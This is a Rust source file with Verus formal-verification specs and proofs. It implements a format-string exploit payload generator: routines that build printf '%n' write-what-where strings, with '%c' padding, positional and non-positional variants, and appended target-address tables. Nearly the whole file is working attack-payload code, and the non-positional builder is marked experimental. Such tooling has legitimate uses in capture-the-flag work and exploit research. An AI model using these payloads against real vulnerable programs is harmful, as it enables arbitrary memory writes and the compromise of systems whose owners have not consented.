//! `%n` write-what-where payloads for printf-family format strings.
use vstd::prelude::*;
use crate::util::{p64, pack_u64_spec, Error};

verus! {

/// The ASCII decimal digits of `n`, most significant first.
pub open spec fn decimal(n: nat) -> Seq<u8>
    decreases n,
{
    if n < 10 {
        seq![(48 + n) as u8]
    } else {
        decimal(n / 10).push((48 + n % 10) as u8)
    }
}

/// `s` cut or padded with `fill` to exactly `n` bytes.
pub open spec fn resized(s: Seq<u8>, n: nat, fill: u8) -> Seq<u8> {
    if s.len() >= n {
        s.subrange(0, n as int)
    } else {
        s + Seq::new((n - s.len()) as nat, |_i: int| fill)
    }
}

/// `x + y` modulo 2^64.
pub open spec fn add_wrap(x: u64, y: u64) -> u64 {
    if x + y > u64::MAX {
        (x + y - 0x1_0000_0000_0000_0000) as u64
    } else {
        (x + y) as u64
    }
}

/// A value to write, with the width of the write.
#[derive(Debug, Clone, Copy)]
pub enum SizedWrite {
    Byte(u8),
    Short(u16),
    Int(u32),
}

impl SizedWrite {
    pub open spec fn mask_spec(&self) -> u64 {
        match self {
            SizedWrite::Byte(_) => 0xff,
            SizedWrite::Short(_) => 0xffff,
            SizedWrite::Int(_) => 0xffff_ffff,
        }
    }

    pub open spec fn val_spec(&self) -> u64 {
        match self {
            SizedWrite::Byte(v) => *v as u64,
            SizedWrite::Short(v) => *v as u64,
            SizedWrite::Int(v) => *v as u64,
        }
    }

    /// The length modifier of the `%n` directive, as bytes.
    pub open spec fn letters(&self) -> Seq<u8> {
        match self {
            SizedWrite::Byte(_) => seq![104u8, 104u8],
            SizedWrite::Short(_) => seq![104u8],
            SizedWrite::Int(_) => Seq::empty(),
        }
    }

    /// How many characters to print so that the low bits of a counter
    /// standing at `written` become this value.
    pub open spec fn pad_count(&self, written: u64) -> u64 {
        let low = written & self.mask_spec();
        if self.val_spec() >= low {
            (self.val_spec() - low) as u64
        } else {
            (self.val_spec() + self.mask_spec() + 1 - low) as u64
        }
    }

    /// The mask of the written width.
    pub fn mask(&self) -> (r: u64)
        ensures
            r == self.mask_spec(),
    {
        match self {
            SizedWrite::Byte(_) => 0xff,
            SizedWrite::Short(_) => 0xffff,
            SizedWrite::Int(_) => 0xffff_ffff,
        }
    }

    /// The printf length modifier of the width: "hh", "h" or "".
    pub fn size_spec(&self) -> (r: String)
        ensures
            r@ == match self {
                SizedWrite::Byte(_) => "hh"@,
                SizedWrite::Short(_) => "h"@,
                SizedWrite::Int(_) => ""@,
            },
    {
        match self {
            SizedWrite::Byte(_) => "hh".to_owned(),
            SizedWrite::Short(_) => "h".to_owned(),
            SizedWrite::Int(_) => "".to_owned(),
        }
    }

    /// The value, zero-extended.
    pub fn val(&self) -> (r: u64)
        ensures
            r == self.val_spec(),
    {
        match self {
            SizedWrite::Byte(v) => *v as u64,
            SizedWrite::Short(v) => *v as u64,
            SizedWrite::Int(v) => *v as u64,
        }
    }

    fn pad_to(&self, written: u64) -> (r: u64)
        ensures
            r == self.pad_count(written),
            r <= self.mask_spec(),
    {
        let mask = self.mask();
        let low = written & mask;
        let v = self.val();
        assert(low <= mask) by (bit_vector)
            requires
                low == written & mask,
        ;
        if v >= low {
            v - low
        } else {
            v + (mask - low) + 1
        }
    }
}

/// A single write-what-where request.
#[derive(Debug, Clone, Copy)]
pub struct FmtWrite {
    pub addr: u64,
    pub value: SizedWrite,
}

/// The `%<count>c` directive that prints `count` characters.
pub open spec fn c_directive(count: u64) -> Seq<u8> {
    seq![37u8] + decimal(count as nat) + seq![99u8]
}

/// The `%n` directive of a write: with `$` and its argument index when given.
pub open spec fn n_directive(w: SizedWrite, index: Option<nat>) -> Seq<u8> {
    seq![37u8] + match index {
        Some(i) => decimal(i) + seq![36u8],
        None => Seq::empty(),
    } + w.letters() + seq![110u8]
}

/// The slot that the directives of one write are padded to.
pub open spec fn slot_len(count: u64) -> nat {
    if count > 999_999 {
        24
    } else {
        16
    }
}

/// The directives of one write, before padding.
pub open spec fn directives(written: u64, w: SizedWrite, index: Option<nat>) -> Seq<u8> {
    c_directive(w.pad_count(written)) + n_directive(w, index)
}

/// The directives of one write fit their slot, and neither the padding nor
/// the argument cursor passes its bound.
pub open spec fn step_fits(cursor: int, written: u64, w: SizedWrite, index: Option<nat>) -> bool {
    let count = w.pad_count(written);
    &&& count <= 99_999_999_999_999
    &&& cursor + c_directive(count).len() / 8 <= 99_999
    &&& directives(written, w, index).len() <= slot_len(count)
}

/// The argument index of the `k`-th write, when writes are addressed by
/// position from `base`.
pub open spec fn index_of(base: Option<nat>, k: nat) -> Option<nat> {
    match base {
        Some(b) => Some(b + k),
        None => None,
    }
}

/// An optional index, as a natural number.
pub open spec fn opt_nat(o: Option<usize>) -> Option<nat> {
    match o {
        Some(i) => Some(i as nat),
        None => None,
    }
}

/// Cursor, character counter and emitted bytes after the first `k` writes.
pub open spec fn run(cursor0: int, written0: u64, ws: Seq<FmtWrite>, base: Option<nat>, k: nat) -> (
    int,
    u64,
    Seq<u8>,
)
    decreases k,
{
    if k == 0 {
        (cursor0, written0, Seq::empty())
    } else {
        let (cursor, written, bytes) = run(cursor0, written0, ws, base, (k - 1) as nat);
        let w = ws[k - 1].value;
        let index = index_of(base, (k - 1) as nat);
        let count = w.pad_count(written);
        let d = directives(written, w, index);
        let slot = slot_len(count);
        (
            cursor + c_directive(count).len() / 8 + slot / 8,
            add_wrap(add_wrap(written, count), (slot - d.len()) as u64),
            bytes + resized(d, slot, 0x41),
        )
    }
}

/// Every one of the first `k` writes fits.
pub open spec fn run_fits(cursor0: int, written0: u64, ws: Seq<FmtWrite>, base: Option<nat>, k: nat) -> bool
    decreases k,
{
    if k == 0 {
        true
    } else {
        let (cursor, written, bytes) = run(cursor0, written0, ws, base, (k - 1) as nat);
        &&& run_fits(cursor0, written0, ws, base, (k - 1) as nat)
        &&& step_fits(cursor, written, ws[k - 1].value, index_of(base, (k - 1) as nat))
    }
}

/// The address table: each address, after a filler qword when asked.
pub open spec fn addr_table(ws: Seq<FmtWrite>, filler: bool) -> Seq<u8>
    decreases ws.len(),
{
    if ws.len() == 0 {
        Seq::empty()
    } else {
        addr_table(ws.drop_last(), filler) + if filler {
            pack_u64_spec(0x4141_4141_4141_4141) + pack_u64_spec(ws.last().addr)
        } else {
            pack_u64_spec(ws.last().addr)
        }
    }
}

/// The positional payload: the directives of each write, padded with `A` to
/// three qwords per write, followed by the address of each write.
pub open spec fn dollar_payload(offset: nat, ws: Seq<FmtWrite>, bytes_written: u64) -> Seq<u8> {
    let n = ws.len();
    let (c, w, bytes) = run(offset as int, bytes_written, ws, Some(offset + 3 * n), n);
    resized(bytes, 24 * n, 0x41) + addr_table(ws, false)
}

/// The positional payload can be built: every write fits.
pub open spec fn dollar_fits(offset: nat, ws: Seq<FmtWrite>, bytes_written: u64) -> bool {
    run_fits(offset as int, bytes_written, ws, Some(offset + 3 * ws.len()), ws.len())
}

/// The number of `%c` directives that lead a payload without positions.
pub open spec fn lead_count(offset: nat, n: nat) -> nat {
    let v = offset + 2 * n;
    v + v / 4 + (4 - v % 4) as nat
}

/// `%c` repeated `v` times.
pub open spec fn percent_c(v: nat) -> Seq<u8>
    decreases v,
{
    if v == 0 {
        Seq::empty()
    } else {
        percent_c((v - 1) as nat) + seq![37u8, 99u8]
    }
}

/// The `A` bytes that align the lead to eight bytes (a whole qword when it is
/// already aligned).
pub open spec fn lead_fill(offset: nat, n: nat) -> nat {
    (8 - (2 * lead_count(offset, n)) % 8) as nat
}

/// The counter after the lead has been printed.
pub open spec fn lead_written(offset: nat, n: nat, bytes_written: u64) -> u64 {
    add_wrap(add_wrap(bytes_written, lead_count(offset, n) as u64), lead_fill(offset, n) as u64)
}

/// The payload without positions: `%c` directives walk the argument cursor,
/// then the directives of each write follow, cut or padded to two qwords per
/// write, then a filler qword and the address of each write.
pub open spec fn nodollar_payload(offset: nat, ws: Seq<FmtWrite>, bytes_written: u64) -> Seq<u8> {
    let n = ws.len();
    let v = lead_count(offset, n);
    let lead = percent_c(v) + Seq::new(lead_fill(offset, n), |_i: int| 0x41u8);
    let (c, w, bytes) = run(offset as int, lead_written(offset, n, bytes_written), ws, None, n);
    resized(lead + bytes, lead.len() + 16 * n, 0x41) + addr_table(ws, true)
}

/// The payload without positions can be built: every write fits.
pub open spec fn nodollar_fits(offset: nat, ws: Seq<FmtWrite>, bytes_written: u64) -> bool {
    run_fits(offset as int, lead_written(offset, ws.len(), bytes_written), ws, None, ws.len())
}

proof fn lemma_fits_prefix(cursor0: int, written0: u64, ws: Seq<FmtWrite>, base: Option<nat>, k: nat, j: nat)
    requires
        run_fits(cursor0, written0, ws, base, k),
        j <= k,
    ensures
        run_fits(cursor0, written0, ws, base, j),
    decreases k,
{
    if j < k {
        lemma_fits_prefix(cursor0, written0, ws, base, (k - 1) as nat, j);
    }
}

proof fn lemma_run_len(cursor0: int, written0: u64, ws: Seq<FmtWrite>, base: Option<nat>, k: nat)
    requires
        run_fits(cursor0, written0, ws, base, k),
    ensures
        run(cursor0, written0, ws, base, k).2.len() <= 24 * k,
        k > 0 ==> run(cursor0, written0, ws, base, k).0 <= 100_002,
    decreases k,
{
    if k > 0 {
        lemma_run_len(cursor0, written0, ws, base, (k - 1) as nat);
    }
}

proof fn lemma_percent_c_len(v: nat)
    ensures
        percent_c(v).len() == 2 * v,
    decreases v,
{
    if v > 0 {
        lemma_percent_c_len((v - 1) as nat);
    }
}

/// Appends the decimal digits of `n`.
fn push_decimal(out: &mut Vec<u8>, n: u64)
    ensures
        final(out)@ == old(out)@ + decimal(n as nat),
    decreases n,
{
    if n >= 10 {
        push_decimal(out, n / 10);
    }
    out.push((48 + n % 10) as u8);
    proof {
        if n >= 10 {
            assert(old(out)@ + decimal(n as nat) =~= old(out)@ + decimal((n / 10) as nat) + seq![(48 + n % 10) as u8]);
        } else {
            assert(old(out)@ + decimal(n as nat) =~= old(out)@ + seq![(48 + n % 10) as u8]);
        }
    }
}

/// Cuts or pads `v` with `fill` to exactly `len` bytes.
fn resize_to(v: &mut Vec<u8>, len: usize, fill: u8)
    ensures
        final(v)@ == resized(old(v)@, len as nat, fill),
{
    if v.len() >= len {
        v.truncate(len);
    } else {
        let start = v.len();
        while v.len() < len
            invariant
                start <= v@.len() <= len,
                v@ == old(v)@ + Seq::new((v@.len() - start) as nat, |_i: int| fill),
            decreases len - v@.len(),
        {
            v.push(fill);
            assert(v@ =~= old(v)@ + Seq::new((v@.len() - start) as nat, |_i: int| fill));
        }
        assert(v@ =~= resized(old(v)@, len as nat, fill));
    }
}

/// Emits the padded directives of one write and advances cursor and counter.
fn emit_write(
    payload: &mut Vec<u8>,
    cursor: &mut usize,
    written: &mut u64,
    w: SizedWrite,
    index: Option<usize>,
)
    requires
        step_fits(*old(cursor) as int, *old(written), w, opt_nat(index)),
    ensures
        *final(cursor) as int == *old(cursor) + c_directive(w.pad_count(*old(written))).len() / 8
            + slot_len(w.pad_count(*old(written))) / 8,
        *final(written) == add_wrap(
            add_wrap(*old(written), w.pad_count(*old(written))),
            (slot_len(w.pad_count(*old(written))) - directives(
                *old(written),
                w,
                opt_nat(index),
            ).len()) as u64,
        ),
        final(payload)@ == old(payload)@ + resized(
            directives(*old(written), w, opt_nat(index)),
            slot_len(w.pad_count(*old(written))),
            0x41,
        ),
{
    let ghost idx = opt_nat(index);
    let count = w.pad_to(*written);
    let mut specs: Vec<u8> = Vec::new();
    specs.push(37u8);
    push_decimal(&mut specs, count);
    specs.push(99u8);
    assert(specs@ =~= c_directive(count));
    let slot: usize = if count > 999_999 {
        24
    } else {
        16
    };
    *cursor = *cursor + specs.len() / 8;
    specs.push(37u8);
    if let Some(i) = index {
        push_decimal(&mut specs, i as u64);
        specs.push(36u8);
    }
    match w {
        SizedWrite::Byte(_) => {
            specs.push(104u8);
            specs.push(104u8);
        },
        SizedWrite::Short(_) => {
            specs.push(104u8);
        },
        SizedWrite::Int(_) => {},
    }
    specs.push(110u8);
    assert(specs@ =~= directives(*old(written), w, idx));
    let fill = (slot - specs.len()) as u64;
    *written = written.wrapping_add(count).wrapping_add(fill);
    resize_to(&mut specs, slot, 0x41);
    *cursor = *cursor + slot / 8;
    payload.append(&mut specs);
}

/// Decides whether one write fits, as `step_fits` does.
fn check_step(cursor: usize, written: u64, w: SizedWrite, index: Option<usize>) -> (r: bool)
    ensures
        r == step_fits(cursor as int, written, w, opt_nat(index)),
{
    let count = w.pad_to(written);
    let mut c: Vec<u8> = Vec::new();
    c.push(37u8);
    push_decimal(&mut c, count);
    c.push(99u8);
    assert(c@ =~= c_directive(count));
    let mut d: Vec<u8> = Vec::new();
    d.push(37u8);
    push_decimal(&mut d, count);
    d.push(99u8);
    d.push(37u8);
    if let Some(i) = index {
        push_decimal(&mut d, i as u64);
        d.push(36u8);
    }
    match w {
        SizedWrite::Byte(_) => {
            d.push(104u8);
            d.push(104u8);
        },
        SizedWrite::Short(_) => {
            d.push(104u8);
        },
        SizedWrite::Int(_) => {},
    }
    d.push(110u8);
    assert(d@ =~= directives(written, w, opt_nat(index)));
    let slot: usize = if count > 999_999 {
        24
    } else {
        16
    };
    count <= 99_999_999_999_999 && cursor <= 99_999 && c.len() / 8 <= 99_999 - cursor && d.len() <= slot
}

/// Decides `run_fits` over all of `writes`, with positions from `base` when
/// given.
fn check_run(cursor0: usize, written0: u64, writes: &Vec<FmtWrite>, base: Option<usize>) -> (r: bool)
    requires
        cursor0 <= 99_999,
        base matches Some(b) ==> b + writes@.len() <= usize::MAX,
    ensures
        r == run_fits(cursor0 as int, written0, writes@, opt_nat(base), writes@.len()),
{
    let ghost ws = writes@;
    let ghost gb = opt_nat(base);
    let n = writes.len();
    let mut cursor = cursor0;
    let mut written = written0;
    let mut k: usize = 0;
    while k < n
        invariant
            n == ws.len(),
            ws == writes@,
            0 <= k <= n,
            gb == opt_nat(base),
            base matches Some(b) ==> b + n <= usize::MAX,
            cursor <= 100_002,
            run_fits(cursor0 as int, written0, ws, gb, k as nat),
            run(cursor0 as int, written0, ws, gb, k as nat).0 == cursor as int,
            run(cursor0 as int, written0, ws, gb, k as nat).1 == written,
        decreases n - k,
    {
        let w = writes[k].value;
        let index = match base {
            Some(b) => Some(b + k),
            None => None,
        };
        assert(opt_nat(index) == index_of(gb, k as nat));
        if !check_step(cursor, written, w, index) {
            proof {
                if run_fits(cursor0 as int, written0, ws, gb, n as nat) {
                    lemma_fits_prefix(cursor0 as int, written0, ws, gb, n as nat, (k + 1) as nat);
                }
            }
            return false;
        }
        let mut scratch: Vec<u8> = Vec::new();
        emit_write(&mut scratch, &mut cursor, &mut written, w, index);
        k = k + 1;
    }
    true
}

/// Whether `fmtstr_payload(offset, writes, bytes_written)` may be called:
/// every write fits and the payload's length fits in memory.
pub fn fmtstr_payload_fits(offset: usize, writes: &Vec<FmtWrite>, bytes_written: usize) -> (r: bool)
    ensures
        r == (dollar_fits(offset as nat, writes@, bytes_written as u64) && 32 * writes@.len() <= usize::MAX),
{
    let n = writes.len();
    if n == 0 {
        return true;
    }
    if n > usize::MAX / 32 || offset > 99_999 {
        proof {
            if dollar_fits(offset as nat, writes@, bytes_written as u64) {
                lemma_fits_prefix(offset as int, bytes_written as u64, writes@, Some((offset + 3 * n) as nat), n as nat, 1);
            }
        }
        return false;
    }
    check_run(offset, bytes_written as u64, writes, Some(offset + 3 * n))
}

/// Whether `fmtstr_payload_nodollar(offset, writes, bytes_written)` may be
/// called: every write fits and the payload's length fits in memory.
pub fn fmtstr_payload_nodollar_fits(offset: usize, writes: &Vec<FmtWrite>, bytes_written: usize) -> (r: bool)
    ensures
        r == (nodollar_fits(offset as nat, writes@, bytes_written as u64) && 2 * lead_count(
            offset as nat,
            writes@.len(),
        ) + 8 + 40 * writes@.len() <= usize::MAX),
{
    let n = writes.len();
    let v0: u128 = offset as u128 + 2 * (n as u128);
    let v: u128 = v0 + v0 / 4 + (4 - v0 % 4);
    assert(v == lead_count(offset as nat, n as nat));
    if 2 * v + 8 + 40 * (n as u128) > usize::MAX as u128 {
        return false;
    }
    let v = v as usize;
    let op: usize = 8 - (2 * v) % 8;
    let written0 = (bytes_written as u64).wrapping_add(v as u64).wrapping_add(op as u64);
    assert(written0 == lead_written(offset as nat, n as nat, bytes_written as u64));
    if n == 0 {
        return true;
    }
    if offset > 99_999 {
        proof {
            if nodollar_fits(offset as nat, writes@, bytes_written as u64) {
                lemma_fits_prefix(offset as int, written0, writes@, None, n as nat, 1);
            }
        }
        return false;
    }
    check_run(offset, written0, writes, None)
}

/// Builds a payload that, read by a printf-family function whose format
/// string is the `offset`-th argument slot, performs each write with a
/// positional `%n` directive, `bytes_written` characters having been printed
/// before it.
pub fn fmtstr_payload(offset: usize, writes: Vec<FmtWrite>, bytes_written: usize) -> (r: Result<Vec<u8>, Error>)
    requires
        dollar_fits(offset as nat, writes@, bytes_written as u64),
        32 * writes@.len() <= usize::MAX,
    ensures
        r matches Ok(p) && p@ == dollar_payload(offset as nat, writes@, bytes_written as u64),
{
    let ghost ws = writes@;
    let n = writes.len();
    let ghost base: Option<nat> = Some((offset + 3 * n) as nat);
    proof {
        if n > 0 {
            lemma_fits_prefix(offset as int, bytes_written as u64, ws, base, n as nat, 1);
            assert(offset <= 99_999);
        }
    }
    let pointer_start = offset + n * 3;
    let pointer_start_bytes = n * 3 * 8;
    let mut cursor = offset;
    let mut written = bytes_written as u64;
    let mut payload: Vec<u8> = Vec::new();
    let mut idx: usize = 0;
    while idx < n
        invariant
            n == ws.len(),
            ws == writes@,
            0 <= idx <= n,
            pointer_start == offset + 3 * n,
            base == Some(pointer_start as nat),
            32 * n <= usize::MAX,
            n > 0 ==> offset <= 99_999,
            dollar_fits(offset as nat, ws, bytes_written as u64),
            run(offset as int, bytes_written as u64, ws, base, idx as nat) == (
                cursor as int,
                written,
                payload@,
            ),
        decreases n - idx,
    {
        proof {
            lemma_fits_prefix(offset as int, bytes_written as u64, ws, base, n as nat, (idx + 1) as nat);
            lemma_run_len(offset as int, bytes_written as u64, ws, base, idx as nat);
        }
        emit_write(&mut payload, &mut cursor, &mut written, writes[idx].value, Some(pointer_start + idx));
        idx = idx + 1;
    }
    resize_to(&mut payload, pointer_start_bytes, 0x41);
    let ghost head = payload@;
    let mut k: usize = 0;
    while k < n
        invariant
            n == ws.len(),
            ws == writes@,
            0 <= k <= n,
            payload@ == head + addr_table(ws.subrange(0, k as int), false),
        decreases n - k,
    {
        let mut a = p64(writes[k].addr);
        payload.append(&mut a);
        proof {
            let s = ws.subrange(0, k + 1);
            assert(s.drop_last() =~= ws.subrange(0, k as int));
        }
        k = k + 1;
    }
    assert(ws.subrange(0, n as int) =~= ws);
    Ok(payload)
}

/// Builds a payload for a printf-family function that takes no positional
/// arguments: a run of `%c` walks the argument cursor to the address table,
/// whose addresses sit each after a filler qword. Experimental: the padding
/// may fall short for some offsets and writes.
pub fn fmtstr_payload_nodollar(offset: usize, writes: Vec<FmtWrite>, bytes_written: usize) -> (r: Result<Vec<u8>, Error>)
    requires
        nodollar_fits(offset as nat, writes@, bytes_written as u64),
        2 * lead_count(offset as nat, writes@.len()) + 8 + 40 * writes@.len() <= usize::MAX,
    ensures
        r matches Ok(p) && p@ == nodollar_payload(offset as nat, writes@, bytes_written as u64),
{
    let ghost ws = writes@;
    let n = writes.len();
    let v0 = offset + n * 2;
    let v = v0 + v0 / 4 + (4 - v0 % 4);
    assert(v == lead_count(offset as nat, n as nat));
    let mut payload: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < v
        invariant
            0 <= i <= v,
            payload@ == percent_c(i as nat),
        decreases v - i,
    {
        payload.push(37u8);
        payload.push(99u8);
        i = i + 1;
        assert(payload@ =~= percent_c(i as nat));
    }
    proof {
        lemma_percent_c_len(v as nat);
    }
    let op = 8 - payload.len() % 8;
    let lead_len = payload.len() + op;
    resize_to(&mut payload, lead_len, 0x41);
    let ghost lead = payload@;
    assert(lead =~= percent_c(v as nat) + Seq::new(lead_fill(offset as nat, n as nat), |_i: int| 0x41u8));
    let pointer_start_bytes = lead_len + n * 8 * 2;
    let mut cursor = offset;
    let mut written = (bytes_written as u64).wrapping_add(v as u64).wrapping_add(op as u64);
    let ghost written0 = written;
    assert(written0 == lead_written(offset as nat, n as nat, bytes_written as u64));
    let mut idx: usize = 0;
    while idx < n
        invariant
            n == ws.len(),
            ws == writes@,
            0 <= idx <= n,
            lead.len() == lead_len,
            lead_len + 40 * n <= usize::MAX,
            nodollar_fits(offset as nat, ws, bytes_written as u64),
            written0 == lead_written(offset as nat, n as nat, bytes_written as u64),
            ({
                let (c, w, bytes) = run(offset as int, written0, ws, None, idx as nat);
                c == cursor as int && w == written && payload@ == lead + bytes
            }),
        decreases n - idx,
    {
        proof {
            lemma_fits_prefix(offset as int, written0, ws, None, n as nat, (idx + 1) as nat);
            lemma_run_len(offset as int, written0, ws, None, idx as nat);
        }
        let ghost before = payload@;
        emit_write(&mut payload, &mut cursor, &mut written, writes[idx].value, None);
        proof {
            let (c, w, bytes) = run(offset as int, written0, ws, None, idx as nat);
            assert(payload@ =~= lead + run(offset as int, written0, ws, None, (idx + 1) as nat).2);
        }
        idx = idx + 1;
    }
    resize_to(&mut payload, pointer_start_bytes, 0x41);
    let ghost head = payload@;
    let mut k: usize = 0;
    while k < n
        invariant
            n == ws.len(),
            ws == writes@,
            0 <= k <= n,
            payload@ == head + addr_table(ws.subrange(0, k as int), true),
        decreases n - k,
    {
        let mut f = p64(0x4141_4141_4141_4141);
        payload.append(&mut f);
        let mut a = p64(writes[k].addr);
        payload.append(&mut a);
        proof {
            let s = ws.subrange(0, k + 1);
            assert(s.drop_last() =~= ws.subrange(0, k as int));
        }
        k = k + 1;
    }
    assert(ws.subrange(0, n as int) =~= ws);
    Ok(payload)
}

} // verus!
